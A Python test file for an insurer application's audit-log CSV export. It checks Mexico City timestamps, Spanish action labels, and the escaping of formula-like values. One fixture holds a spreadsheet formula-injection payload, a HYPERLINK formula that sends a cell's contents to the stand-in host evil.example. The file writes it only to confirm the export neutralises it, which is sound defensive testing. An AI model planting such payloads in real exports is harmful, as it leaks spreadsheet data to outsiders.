"""The audit's CSV (formula-looking text stays text) and its table of action labels (every
action recorded in chalicelib/ has one)."""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

from chalicelib.audit import csv_export
from chalicelib.audit.actions import ACTION_LABELS, action_label
from chalicelib.audit.repository import AuditRecord

CHALICELIB = Path(__file__).resolve().parents[3] / "chalicelib"


def _record(**fields: object) -> AuditRecord:
    values: dict[str, object] = {
        "record_id": "r-1",
        "insurer_id": "sec",
        "actor_id": "a-1",
        "action": "claim.read",
        "subject": "c-1",
        "at": "2026-03-06T00:30:00+00:00",
    }
    return AuditRecord(**{**values, **fields})  # type: ignore[arg-type]


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the accents
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_a_formula_looking_subject_name_or_detail_is_written_as_text() -> None:
    record = _record(
        subject='=HYPERLINK("http://evil.example/?x="&A1,"ver")',
        detail={"note": "x"},
        source_ip="@10.0.0.1",
    )
    names = {"a-1": ("+52@example.mx", "-SUM(1,1)")}
    [header, row] = _rows(csv_export.csv_bytes([record], names))
    assert header[6] == "Sujeto"
    assert row[6] == '\'=HYPERLINK("http://evil.example/?x="&A1,"ver")'
    assert row[1] == "'+52@example.mx"
    assert row[2] == "'-SUM(1,1)"
    assert row[7] == "'@10.0.0.1"
    assert row[8] == '{"note": "x"}'


def test_times_are_mexico_city_wall_clock_and_actions_have_their_label() -> None:
    [_, row] = _rows(csv_export.csv_bytes([_record(action="staff.invited")], {}))
    # 00:30 UTC on the 6th is 18:30 on the 5th in Mexico City.
    assert row[0] == "2026-03-05 18:30:00"
    assert row[1:6] == ["", "", "a-1", "Invitó a un miembro del personal", "staff.invited"]


def test_an_unlabelled_action_shows_its_own_name() -> None:
    assert action_label("algo.nuevo") == "algo.nuevo"
    assert action_label("insurer.updated") == "Cambió la configuración de la aseguradora"


ACTION_NAME = re.compile(r"^[a-z_]+(\.[a-z_]+)+$")


def _called_name(call: ast.Call) -> str | None:
    if isinstance(call.func, ast.Attribute):
        return call.func.attr
    if isinstance(call.func, ast.Name):
        return call.func.id
    return None


def _recorded_actions() -> dict[str, str]:
    """Each literal action given to `audit.record` or to a context's own `_record` wrapper
    in chalicelib/ (the third positional argument, or `action=`), or set to a variable named
    `action` (both sides of a conditional count), with where it is."""
    found: dict[str, str] = {}
    for path in sorted(CHALICELIB.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            arguments: list[ast.expr] = []
            if isinstance(node, ast.Call) and _called_name(node) in {"record", "_record"}:
                arguments += [node.args[2]] if len(node.args) > 2 else []
                arguments += [k.value for k in node.keywords if k.arg == "action"]
            elif isinstance(node, ast.Assign) and any(
                isinstance(t, ast.Name) and t.id == "action" for t in node.targets
            ):
                arguments.append(node.value)  # `action = "a.b" if … else "a.c"`, then recorded
            for argument in arguments:
                for value in ast.walk(argument):
                    if (
                        isinstance(value, ast.Constant)
                        and isinstance(value.value, str)
                        and ACTION_NAME.match(value.value)
                    ):
                        where = f"{path.relative_to(CHALICELIB.parent)}:{value.lineno}"
                        found[value.value] = where
    return found


def test_every_recorded_action_has_a_spanish_label() -> None:
    recorded = _recorded_actions()
    assert {"claim.read", "claim.transition", "data_request.decision"} <= set(recorded)
    assert {"staff.disabled", "staff.enabled"} <= set(recorded)  # a conditional's two sides
    missing = {a: where for a, where in recorded.items() if a not in ACTION_LABELS}
    assert not missing, f"add a line to chalicelib/audit/actions.py for: {missing}"


def test_the_issue_names_have_labels() -> None:
    for action in (
        "staff.invited",
        "staff.duties_changed",
        "staff.disabled",
        "staff.enabled",
        "staff.totp_reset",
        "insurer.created",
        "insurer.updated",
        "insurer.admin_invited",
        "import.requested",
        "import.applied",
    ):
        assert ACTION_LABELS[action][0].isupper(), action
